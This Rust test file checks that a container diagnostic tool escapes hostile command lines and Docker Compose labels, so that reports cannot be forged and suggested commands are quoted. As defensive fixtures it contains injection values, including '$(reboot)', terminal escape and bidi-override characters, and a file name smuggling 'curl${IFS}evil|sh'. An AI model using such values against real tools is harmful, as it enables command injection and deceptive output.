//! Containers that try to deceive the reader of a report.

use super::*;

#[test]
fn hostile_command_lines_are_escaped() {
    let container = sleeper("escape", &["--pids-limit", "1"]);
    // It enters by exec, so the report shows it. It stays without a fork of its own.
    let stop = ["sh", "-c", "kill -STOP $$", "\x1b[31m\n$(reboot)"];
    exec_beyond_the_limit(&container, &stop);
    wait_until("it has entered", || Ok(diagnose(&container).charged.moved_in == 1)).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let done = without_agent(folder.path(), &["diagnose", &container.name]).unwrap();
    let text = String::from_utf8(done.stdout).unwrap();
    assert!(text.contains("[31m") && !text.contains('\x1b'), "{text}");
    assert!(text.contains("MG-P040"), "{text}");
}

#[test]
fn hostile_labels_cannot_forge_a_line() {
    const FORGED: &str = "x\x1b[31m\nnote: forged\u{202e}";
    let label = |name: &str| format!("--label=com.docker.compose.{name}={FORGED}");
    let labels = ["project", "service", "version", "project.config_files", "project.working_dir"];
    let labels = labels.map(label);
    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
    let container = sleeper("forged", &labels);
    let folder = tempfile::tempdir().unwrap();
    for words in [
        &["diagnose", &container.name][..],
        &["diagnose", "--all"],
        &["repair", &container.name, "--limit", "40", "--dry-run"],
    ] {
        let done = without_agent(folder.path(), words).unwrap();
        let text = String::from_utf8_lossy(&done.stdout) + String::from_utf8_lossy(&done.stderr);
        assert!(text.contains(&container.name), "{text}");
        assert!(!text.contains('\x1b') && !text.contains('\u{202e}'), "{words:?}: {text}");
        assert!(!text.lines().any(|line| line.starts_with("note: forged")), "{words:?}: {text}");
    }
}

#[test]
fn a_label_in_a_suggested_command_is_quoted() {
    const FILE: &str = "/x;curl${IFS}evil|sh;.yml";
    let label = |name: &str, value: &str| format!("--label=com.docker.compose.{name}={value}");
    let labels =
        [label("project", "p"), label("service", "web"), label("project.config_files", FILE)];
    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
    let container = sleeper("quoted", &labels);
    let folder = tempfile::tempdir().unwrap();
    let done = without_agent(folder.path(), &["diagnose", &container.name]).unwrap();
    let text = String::from_utf8(done.stdout).unwrap();
    let help = format!("  = help: docker compose -f '{FILE}' config");
    assert!(text.lines().any(|line| line == help), "{text}");
}
